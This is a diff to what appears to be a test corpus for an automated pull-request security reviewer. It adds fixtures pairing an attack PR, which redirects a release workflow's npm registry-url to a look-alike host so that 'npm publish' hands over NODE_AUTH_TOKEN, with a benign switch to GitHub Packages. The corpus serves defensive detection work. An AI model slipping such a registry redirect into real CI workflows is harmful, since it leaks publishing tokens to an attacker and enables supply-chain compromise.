@@ -3203,6 +3203,46 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-release-npm-token-to-other-registry',
+    description:
+      'The npm twin of the .pypirc redirect: a "publish through the registry cache" PR changes setup-node\'s registry-url in the release job to a host spelled like the npm registry; setup-node writes an .npmrc auth line for that host, so `npm publish` hands NODE_AUTH_TOKEN (the npm token) to whoever runs it, with no curl anywhere (registry-confusion write-ups: the client carries the credential to the registry it is told to use).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7639,
+        title: 'ci: publish through the registry cache',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://registry.npmjs.org', '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+            head: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://registry.npmjs-cache.org', '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'benign-release-npm-to-github-packages',
+    description:
+      'The benign look-alike: a maintainer moves the release job from npmjs.org to the repository\'s own GitHub Packages (setup-node registry-url npm.pkg.github.com with the scope), keeping the token in NODE_AUTH_TOKEN: an official registry, no token sent elsewhere.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7640,
+        title: 'ci: publish to GitHub Packages',
+        author: 'member',
+        files: [
+          {
+            path: '.github/workflows/release.yml',
+            base: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://registry.npmjs.org', '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+            head: lines('name: release', 'on:', '  release:', '    types: [published]', 'jobs:', '  publish:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-node@v4', '        with:', '          node-version: 22', '          registry-url: https://npm.pkg.github.com', "          scope: '@tint'", '      - run: npm ci && npm publish', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve' },
+  },
+  {
     id: 'attack-ci-npm-registry-on-command-line',
     description:
       "The npm twin of a registry override, kept out of .npmrc where reviewers look: a newcomer's \"speed up CI\" PR runs `npm ci --registry` against a host spelled like the public registry, and a Dockerfile sets NPM_CONFIG_REGISTRY to it: every package then comes from whoever holds that host.",
